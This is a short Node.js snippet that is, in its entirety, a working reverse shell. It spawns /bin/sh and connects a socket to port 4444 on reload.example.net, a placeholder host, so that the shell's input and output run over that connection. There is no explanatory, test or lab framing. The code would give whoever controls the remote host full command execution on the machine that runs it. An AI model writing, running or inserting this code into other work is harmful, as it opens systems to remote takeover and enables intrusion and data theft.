const net = require("net");
const cp = require("child_process");

const sh = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "reload.example.net", () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
